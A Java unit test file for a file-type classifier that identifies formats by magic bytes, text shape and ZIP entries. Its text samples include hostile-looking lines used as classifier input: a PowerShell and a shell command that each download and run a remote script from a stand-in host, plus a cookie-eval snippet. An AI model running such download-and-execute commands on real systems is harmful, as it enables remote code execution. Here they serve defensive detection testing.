package wolfhound.sources.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import wolfhound.model.FileKind;

class FileKindsTest {
    @ParameterizedTest
    @CsvSource({
        "ELF, 7f454c46 0201 01",
        "MACH_O, cffaedfe 07000001",
        "MACH_O, cafebabe 00000002",
        "JAVA_CLASS, cafebabe 00000034",
        "DEX, 6465780a 30333500",
        "RAR, 526172211a0700",
        "SEVEN_ZIP, 377abcaf271c",
        "GZIP, 1f8b0800 00000000",
        "BZIP2, 425a6839 314159265359",
        "XZ, fd377a585a00",
        "CAB, 4d534346 00000000",
        "OLE, d0cf11e0a1b11ae1",
        "PDF, 255044462d312e34",
        "FLASH, 435753 0a 10000000",
        "PNG, 89504e470d0a1a0a",
        "JPEG, ffd8ffe0",
        "GIF, 474946383961",
        "ICO, 00000100 0100 1010 0000",
        "BMP, 424d 36000000 0000 0000 36000000 28000000",
        "WEBP, 52494646 24000000 57454250",
        "AUDIO_VIDEO, 52494646 24000000 57415645",
        "AUDIO_VIDEO, 00000018 66747970 6d703432",
        "AUDIO_VIDEO, fffb9064 00000000",
        "FONT, 774f4632 00010000",
        "CERTIFICATE, 30820400 308202e8 a003 0201",
        "LNK, 4c000000 01140200",
        "SQLITE, 53514c69746520666f726d6174203300",
        "ZIP, 504b0304 1400 0000",
        "BINARY, 0102030405060708"
    })
    void tellsBinaryFormatsByTheirFirstBytes(FileKind kind, String hex) {
        byte[] head = HexFormat.of().parseHex(hex.replace(" ", ""));
        assertThat(FileKinds.tell(head, head.length, true)).isEqualTo(kind);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    HTML       | <!DOCTYPE html><html><head>
                    HTML       | <!-- made by hand --> <html>
                    HTML       | <script>alert(1)</script>
                    XML        | <?xml version="1.0"?><rss/>
                    XML        | <Envelope xmlns="urn:x">
                    JSON       | {"a": [1, 2.5e3, true, null], "b": {"c": "d\\"e"}}
                    JSON       | []
                    JSON       | {}
                    JSON       | {"index":{}} {"field":1}
                    TEXT       | {not json at all}
                    FORM       | a=1&b=two%20words&c=
                    FORM       | data=AbC%2B
                    SCRIPT     | function a(){ var b = document.cookie; return eval(b); }
                    SCRIPT     | Dim s: Set s = CreateObject("WScript.Shell"): s.Run "calc"
                    SCRIPT     | <?php echo 1; ?>
                    POWERSHELL | IEX (New-Object Net.WebClient).DownloadString('http://x/a')
                    POWERSHELL | $a = [System.Convert]::FromBase64String('AA==')
                    SHELL_SCRIPT | cd /tmp; wget http://192.0.2.1/m.sh; chmod 777 m.sh; sh m.sh
                    BASE64_TEXT | TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA
                    BASE64_TEXT | eyJhbGciOiJIUzI1NiJ9_-eyJzdWIiOiIx
                    TEXT       | The quick brown fox lets the lazy dog lie.
                    TEXT       | deadbeefdeadbeefdeadbeefdeadbeef
                    TEXT       | OK
                    """)
    void tellsTextsByTheirShape(FileKind kind, String text) {
        assertThat(of(text)).isEqualTo(kind);
    }

    @Test
    void tellsAMultipartBody() {
        assertThat(of("--xYz\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nhello"))
                .isEqualTo(FileKind.MULTIPART);
    }

    @Test
    void tellsAShellScriptByItsFirstLine() {
        assertThat(of("#!/bin/bash\necho hi\n")).isEqualTo(FileKind.SHELL_SCRIPT);
        assertThat(of("#!/usr/bin/env python\nprint(1)\n")).isEqualTo(FileKind.SCRIPT);
    }

    @Test
    void readsTextBehindAByteOrderMark() {
        byte[] wide = "\ufeff<html><body>hi</body></html>".getBytes(StandardCharsets.UTF_16LE);
        assertThat(FileKinds.tell(wide, wide.length, false)).isEqualTo(FileKind.HTML);
        assertThat(of("\u00ef\u00bb\u00bf{\"a\":1}")).isEqualTo(FileKind.JSON);
    }

    @Test
    void tellsZipsApartByTheirEntries() {
        assertThat(zip("META-INF/MANIFEST.MF")).isEqualTo(FileKind.JAR);
        assertThat(zip("readme.txt", "a/B.class")).isEqualTo(FileKind.JAR);
        assertThat(zip("[Content_Types].xml")).isEqualTo(FileKind.OOXML);
        assertThat(zip("AppManifest.xaml")).isEqualTo(FileKind.SILVERLIGHT);
        assertThat(zip("invoice.exe")).isEqualTo(FileKind.ZIP);
    }

    @Test
    void tellsWindowsFromDosExecutables() {
        byte[] head = Executables.pe(0x80, 0x14C, 0x0102, 2);
        assertThat(FileKinds.tell(head, head.length, true)).isEqualTo(FileKind.PE);
        head[0x80] = 'N';
        assertThat(FileKinds.tell(head, head.length, true)).isEqualTo(FileKind.MZ);
    }

    @Test
    void tellsCiphersFromStructure() {
        byte[] random = new byte[600];
        new Random(7).nextBytes(random);
        assertThat(FileKinds.tell(random, random.length, false)).isEqualTo(FileKind.RANDOM);
        Arrays.fill(random, 0, 300, (byte) 0x90);
        assertThat(FileKinds.tell(random, random.length, false)).isEqualTo(FileKind.BINARY);
    }

    @Test
    void saysNothingOfNothing() {
        assertThat(FileKinds.tell(new byte[0], 0, false)).isEqualTo(FileKind.EMPTY);
    }

    @Test
    void standsEveryPrefixOfEveryShape() {
        for (String text :
                new String[] {
                    "{\"a\": [1, {\"b\": \"\\u0041\"}], \"c\": -1.5e+3}",
                    "<!-- x --><?xml version=\"1.0\"?><html>",
                    "--b\r\nContent-Type: text/plain\r\n\r\n",
                    "PK\u0003\u0004aaaaaaaaaaaaaaaaaaaaaa\u0009\u0000\u0000\u0000META-INF/"
                }) {
            byte[] all = text.getBytes(StandardCharsets.ISO_8859_1);
            for (int length = 1; length <= all.length; length++) {
                assertThat(FileKinds.tell(all, length, true)).isNotEqualTo(FileKind.EMPTY);
            }
        }
    }

    @Test
    void takesTheBeginningOfJsonForJson() {
        String text = "{\"a\": [1, {\"b\": \"x\"}], \"c\": true}";
        for (int length = 1; length <= text.length(); length++) {
            assertThat(JsonShape.fits(text.substring(0, length), true)).as("%d", length).isTrue();
            assertThat(JsonShape.fits(text.substring(0, length), false))
                    .as("%d", length)
                    .isEqualTo(length == text.length());
        }
    }

    private static FileKind of(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        return FileKinds.tell(bytes, bytes.length, false);
    }

    private static FileKind zip(String... names) {
        var archive = new StringBuilder();
        for (String name : names) {
            archive.append("PK\u0003\u0004")
                    .append("\0".repeat(22))
                    .append((char) name.length())
                    .append("\0\0\0")
                    .append(name)
                    .append("stored");
        }
        return of(archive.toString());
    }
}
